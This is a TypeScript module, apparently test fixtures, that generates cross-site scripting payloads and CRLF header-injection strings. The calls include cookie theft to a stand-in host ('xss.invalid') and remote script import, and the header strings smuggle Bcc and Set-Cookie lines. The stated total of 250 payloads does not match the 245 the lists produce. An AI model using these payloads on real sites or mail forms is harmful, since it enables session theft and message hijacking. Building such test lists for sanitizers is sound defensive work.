/** Calls that a payload makes when it runs: a dialog, or a request to a host of nobody. */
const CALLS = ["alert(7)", "fetch('//xss.invalid/'+document.cookie)", "confirm`7`", "location='//xss.invalid'", "import('//xss.invalid/x.js')"];

/** Ways into a page: elements, attributes, addresses, scripts, templates, styles, and what confuses readers of markup. `C` is the call. */
const WAYS = [
  "<script>C</script>", "<img src=x onerror=C>", "<svg onload=C>", "<svg/onload=C>", "<body onload=C>", "<iframe srcdoc=\"<script>C</script>\">", "<iframe src=javascript:C>", "<details open ontoggle=C>", "<video><source onerror=C></video>", "<input autofocus onfocus=C>",
  "<a href=\"javascript:C\">x</a>", "<math><mi xlink:href=\"data:x,<script>C</script>\">", "<object data=\"javascript:C\">", "<embed src=\"javascript:C\">", "<form action=\"javascript:C\"><button>x", "<marquee onstart=C>", "<meta http-equiv=refresh content=\"0;url=javascript:C\">", "<link rel=stylesheet href=//xss.invalid/x.css>", "<base href=//xss.invalid/>", "<style>@import '//xss.invalid/x.css'</style>",
  "\" onmouseover=C x=\"", "' onfocus=C autofocus x='", "\" autofocus onfocus=C \"", "\"><script>C</script>", "'><img src=x onerror=C>", "--><script>C</script>", "]]><script>C</script>", "</script><script>C</script>", "</title><script>C</script>", "</textarea><script>C</script>", "</style><script>C</script>", "</option></select><img src=x onerror=C>", "<!--<script>-->C</script>",
  "javascript:C", "JaVaScRiPt:C", "java\tscript:C", "data:text/html,<script>C</script>", "vbscript:C", "{{constructor.constructor('C')()}}", "${C}", "#{C}", "<%=C%>", "\u2028C\u2029", "\\u003cscript\\u003eC\\u003c/script\\u003e", "&lt;script&gt;C&lt;/script&gt;", "&#60;script&#62;C&#60;/script&#62;", "%3Cscript%3EC%3C/script%3E", "<scr<script>ipt>C</scr</script>ipt>", "<ScRiPt>C</ScRiPt>", "<img src=\"x`<script>C</script>\"`>",
];

/** Every way with every call: 250 hostile texts. */
export const XSS_PAYLOADS: readonly string[] = WAYS.flatMap((way) => CALLS.map((call) => way.replaceAll("C", call)));

/** Texts that try to end a header and begin another one, a receiver, or a part of the body. */
export const HEADER_BREAKS: readonly string[] = [
  "x\r\nBcc: all@xss.invalid", "x\nTo: all@xss.invalid\n\n<script>alert(7)</script>", "x\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>alert(7)</script>", '"x" <all@xss.invalid>, y',
  "=?utf-8?q?x=0D=0ABcc:_all=40xss.invalid?=", "x\u2028Bcc: all@xss.invalid", "x\u0000\u0085Bcc: all@xss.invalid", 'x"\r\nX-Injected: 1\r\nSet-Cookie: x=1\r\n; filename="y.html',
];
